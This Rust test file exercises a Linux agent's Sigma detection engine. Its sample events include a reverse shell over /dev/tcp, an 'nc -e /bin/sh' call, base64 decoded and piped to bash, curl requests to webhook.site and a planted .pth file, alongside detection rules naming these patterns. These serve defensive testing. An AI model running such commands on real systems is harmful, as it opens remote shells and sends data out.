use std::net::IpAddr;

use monitor_common::EventKind;

use super::super::testutil::{check, ctx, exec, file_body, file_event, load_errs, load_ok, net};
use super::super::{EvalContext, ResolvedNames};
use crate::sensor::event::{Access, Protocol};

const B64: &str = "title: Linux Base64 Encoded Pipe to Shell
id: ba592c6d-6888-43c3-b8c6-689b8fe47337
status: test
references:
    - https://example.com/b64
logsource:
    product: linux
    category: process_creation
detection:
    selection_base64:
        CommandLine|contains: 'base64 '
    selection_exec:
        - CommandLine|contains:
              - '| bash '
              - '| sh '
        - CommandLine|endswith:
              - ' |sh'
              - '| bash'
    condition: all of selection_*
level: medium
tags: [attack.defense-evasion, attack.t1140, attack.t1059.004, attack.g0001]
";

const PTH: &str = "title: Python Path Configuration File Creation - Linux
id: 7e4a0e0d-ca5b-4f3a-a7be-6d0d2e1b9a47
logsource:
    product: linux
    category: file_event
detection:
    selection:
        TargetFilename|re: '(?i)/lib/python3\\.[0-9]+/site-packages/'
        TargetFilename|endswith: '.pth'
    filter_main:
        Image|endswith: ['/pip', '/pip3']
    condition: selection and not 1 of filter_*
level: low
";

const NET: &str = "title: Connection to a paste site
id: 1a2b3c4d-0000-4000-8000-000000000001
logsource:
    product: linux
    category: network_connection
detection:
    selection:
        Initiated: 'true'
        DestinationHostname|endswith: '.litellm.cloud'
    selection_net:
        DestinationIp|cidr: '203.0.113.0/24'
        DestinationPort: 443
    condition: 1 of selection*
level: high
";

/// Every DNS answer named `models.litellm.cloud`.
struct Named;

impl ResolvedNames for Named {
    fn resolved(&self, _ip: IpAddr, _host: &str) -> bool {
        true
    }
    fn name_of(&self, _ip: IpAddr) -> Option<&str> {
        Some("models.litellm.cloud")
    }
}

fn host_wide() -> EvalContext<'static> {
    EvalContext {
        host_wide: true,
        ..ctx(None)
    }
}

#[test]
fn a_process_creation_rule_fires_with_its_alert_fields() {
    let rules = load_ok(&[("b64.yml", B64)]);
    assert_eq!(rules.sigma_count(), 1);
    let ev = exec("/usr/bin/sh", &["sh", "-c", "echo aGkK | BASE64 -d | bash"]);
    let found = check(&rules, &ev, &host_wide());
    assert_eq!(found.len(), 1, "{found:?}");
    let f = &found[0];
    assert_eq!(f.rule, "sigma:ba592c6d-6888-43c3-b8c6-689b8fe47337");
    assert_eq!(f.severity.as_str(), "medium");
    assert_eq!(f.mitre, ["T1140", "T1059.004"]);
    assert!(
        f.message.contains("Linux Base64 Encoded Pipe to Shell"),
        "{}",
        f.message
    );
    let info = f.sigma.as_ref().expect("sigma info");
    assert_eq!(info.title, "Linux Base64 Encoded Pipe to Shell");
    assert_eq!(info.level, "medium");
    assert_eq!(info.status.as_deref(), Some("test"));
    assert_eq!(info.references, ["https://example.com/b64"]);
    // A near miss: base64 without a pipe to a shell.
    let ev = exec("/usr/bin/base64", &["base64", "-d", "x"]);
    assert!(check(&rules, &ev, &host_wide()).is_empty());
}

#[test]
fn sigma_applies_to_profiled_processes_or_host_wide() {
    let rules = load_ok(&[("b64.yml", B64)]);
    let ev = exec("/usr/bin/sh", &["sh", "-c", "base64 -d x | bash"]);
    assert!(check(&rules, &ev, &ctx(None)).is_empty());
    assert_eq!(check(&rules, &ev, &host_wide()).len(), 1);
}

#[test]
fn file_events_are_creations_truncations_and_rename_targets() {
    let rules = load_ok(&[("pth.yml", PTH)]);
    let path = "/opt/venv/lib/python3.11/site-packages/evil.pth";
    let mut created = file_body(path);
    created.access = Some(Access::Write);
    created.created = Some(true);
    let ev = file_event(EventKind::Open, created.clone());
    assert_eq!(check(&rules, &ev, &host_wide()).len(), 1);
    // Opened for writing without creating or truncating: not a file_event.
    let mut append = created.clone();
    append.created = Some(false);
    assert!(
        check(
            &rules,
            &file_event(EventKind::Open, append.clone()),
            &host_wide()
        )
        .is_empty()
    );
    append.flags = 0o1000;
    assert_eq!(
        check(&rules, &file_event(EventKind::Open, append), &host_wide()).len(),
        1
    );
    // A rename's new name.
    let mut renamed = file_body("/tmp/x");
    renamed.new_path = Some(path.to_owned());
    assert_eq!(
        check(
            &rules,
            &file_event(EventKind::Rename, renamed),
            &host_wide()
        )
        .len(),
        1
    );
    // The rule's own filter: pip writes .pth files.
    let mut by_pip = file_event(EventKind::Open, created);
    by_pip.exe = Some("/opt/venv/bin/pip".to_owned());
    assert!(check(&rules, &by_pip, &host_wide()).is_empty());
}

#[test]
fn network_connections_name_the_host_the_process_resolved() {
    let rules = load_ok(&[("net.yml", NET)]);
    let remote = Some(("198.51.100.7".parse().expect("ip"), 443));
    let ev = net(EventKind::Connect, Protocol::Tcp, remote, None);
    assert!(check(&rules, &ev, &host_wide()).is_empty());
    let named = EvalContext {
        resolved: &Named,
        ..host_wide()
    };
    assert_eq!(check(&rules, &ev, &named).len(), 1);
    // Accepted: not initiated, and the remote end is the source.
    let ev = net(EventKind::Accept, Protocol::Tcp, remote, Some(8080));
    assert!(check(&rules, &ev, &named).is_empty());
    // CIDR and a numeric port.
    let remote = Some(("203.0.113.9".parse().expect("ip"), 443));
    let ev = net(EventKind::Connect, Protocol::Tcp, remote, None);
    assert_eq!(check(&rules, &ev, &host_wide()).len(), 1);
    let remote = Some(("203.0.113.9".parse().expect("ip"), 80));
    let ev = net(EventKind::Connect, Protocol::Tcp, remote, None);
    assert!(check(&rules, &ev, &host_wide()).is_empty());
}

#[test]
fn a_filter_document_suppresses_the_rule_it_names() {
    let filter = "title: Our deploy script decodes base64 into sh
logsource:
    product: linux
    category: process_creation
filter:
    rules:
        - ba592c6d-6888-43c3-b8c6-689b8fe47337
    selection:
        CommandLine|contains: deploy.b64
    condition: not selection
";
    let rules = load_ok(&[("b64.yml", B64), ("filter.yml", filter)]);
    let ours = exec("/usr/bin/sh", &["sh", "-c", "base64 -d deploy.b64 | bash"]);
    assert!(check(&rules, &ours, &host_wide()).is_empty());
    let other = exec("/usr/bin/sh", &["sh", "-c", "base64 -d x | bash"]);
    assert_eq!(check(&rules, &other, &host_wide()).len(), 1);
    let unknown = filter.replace("ba592c6d-6888-43c3-b8c6-689b8fe47337", "no-such-rule");
    let errs = load_errs(&[("b64.yml", B64), ("filter.yml", &unknown)]);
    assert_eq!(
        errs,
        [
            "filter.yml:5: key `filter.rules`: names `no-such-rule`, which is no loaded Sigma rule (by id or title)"
        ]
    );
}

#[test]
fn what_cannot_be_evaluated_is_an_error_with_file_line_and_key() {
    let bad = B64
        .replace(
            "CommandLine|contains: 'base64 '",
            "CommandLine|wide: 'base64 '",
        )
        .replace("- CommandLine|endswith:", "- Hashes|endswith:");
    let errs = load_errs(&[("bad.yml", &bad)]);
    assert_eq!(errs.len(), 2, "{errs:?}");
    assert!(
        errs[0].starts_with(
            "bad.yml:11: key `detection.selection_base64.CommandLine|wide`: unsupported modifier `wide`"
        ),
        "{errs:?}"
    );
    assert!(
        errs[1].starts_with(
            "bad.yml:16: key `detection.selection_exec[1].Hashes|endswith`: field `Hashes` is not in process_creation events"
        ),
        "{errs:?}"
    );
    let windows = B64.replace("product: linux", "product: windows");
    assert_eq!(
        load_errs(&[("w.yml", &windows)]),
        [
            "w.yml:7: key `logsource.product`: unsupported product `windows`: the agent evaluates `linux` rules"
        ]
    );
    let auditd = B64.replace("category: process_creation", "service: auditd");
    let errs = load_errs(&[("a.yml", &auditd)]);
    assert!(
        errs[0].starts_with("a.yml:8: key `logsource.service`:"),
        "{errs:?}"
    );
    let category = B64.replace("category: process_creation", "category: registry_set");
    let errs = load_errs(&[("c.yml", &category)]);
    assert_eq!(
        errs,
        [
            "c.yml:8: key `logsource.category`: unsupported category `registry_set` (supported: process_creation, file_event, network_connection)"
        ]
    );
    let no_id = B64.replace("id: ba592c6d-6888-43c3-b8c6-689b8fe47337\n", "");
    let errs = load_errs(&[("n.yml", &no_id)]);
    assert_eq!(
        errs,
        ["n.yml:1: key `id`: a Sigma rule needs an `id`: its alerts are named `sigma:<id>`"]
    );
    let condition = B64.replace("all of selection_*", "all of selection_* and (");
    let errs = load_errs(&[("p.yml", &condition)]);
    assert_eq!(errs.len(), 1, "{errs:?}");
    assert_eq!(
        errs,
        [
            "p.yml:19: key `detection.condition`: invalid Sigma: Condition parse error at 1:25:  --> 1:25 (expected expr)"
        ]
    );
    let twice = load_errs(&[("a.yml", B64), ("b.yml", B64)]);
    assert_eq!(
        twice,
        ["b.yml:2: key `id`: duplicate Sigma rule id `ba592c6d-6888-43c3-b8c6-689b8fe47337`"]
    );
}

#[test]
fn keywords_wildcards_escapes_and_case() {
    let rule = "title: Keywords
id: 00000000-0000-4000-8000-00000000000a
logsource:
    product: linux
    category: process_creation
detection:
    keywords:
        - 'nc -e'
    sel_wild:
        Image|endswith: '/ba?h'
        Image|startswith: '/usr/b?n/'
        CommandLine: '*-i >& /dev/tcp/*'
    sel_escaped:
        CommandLine|contains: 'lit\\*star'
    condition: keywords or sel_wild or sel_escaped
level: high
";
    let rules = load_ok(&[("k.yml", rule)]);
    let hit = |argv: &[&str], exe: &str| !check(&rules, &exec(exe, argv), &host_wide()).is_empty();
    assert!(hit(&["NC", "-E", "/bin/sh", "1.2.3.4"], "/usr/bin/nc"));
    assert!(hit(
        &["bash", "-i", ">&", "/dev/tcp/1.2.3.4/4444"],
        "/usr/bin/bash"
    ));
    assert!(!hit(
        &["bash", "-i", ">&", "/dev/tcp/1.2.3.4/4444"],
        "/usr/bin/bassh"
    ));
    assert!(!hit(
        &["bash", "-i", ">&", "/dev/tcp/1.2.3.4/4444"],
        "/opt/usr/bin/bash"
    ));
    assert!(hit(&["echo", "lit*star"], "/usr/bin/echo"));
    assert!(!hit(&["echo", "litXstar"], "/usr/bin/echo"));
}

/// The cross-rule prefilter (one automaton over every rule's literals) keeps Sigma's
/// case-insensitive default: field values in any case still reach the rule.
#[test]
fn the_cross_rule_prefilter_keeps_matching_case_insensitive() {
    let rule = "title: Curl to a webhook
id: 00000000-0000-4000-8000-00000000000b
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: '/curl'
        CommandLine|contains: 'webhook.site'
    condition: selection
level: high
";
    let other = rule
        .replace("00000000000b", "00000000000c")
        .replace("/curl", "/wget")
        .replace("Curl to", "Wget to");
    let rules = load_ok(&[("c.yml", rule), ("w.yml", &other)]);
    let fired = |argv: &[&str], exe: &str| {
        check(&rules, &exec(exe, argv), &host_wide())
            .into_iter()
            .map(|f| f.rule)
            .collect::<Vec<_>>()
    };
    let curl = "sigma:00000000-0000-4000-8000-00000000000b";
    assert_eq!(
        fired(&["curl", "https://WEBHOOK.SITE/x"], "/usr/bin/CURL"),
        [curl]
    );
    assert_eq!(
        fired(&["curl", "https://webhook.site/x"], "/usr/bin/curl"),
        [curl]
    );
    assert!(fired(&["curl", "https://example.com/x"], "/usr/bin/curl").is_empty());
    assert_eq!(
        fired(&["wget", "https://Webhook.Site/x"], "/usr/bin/wget"),
        ["sigma:00000000-0000-4000-8000-00000000000c"]
    );
}
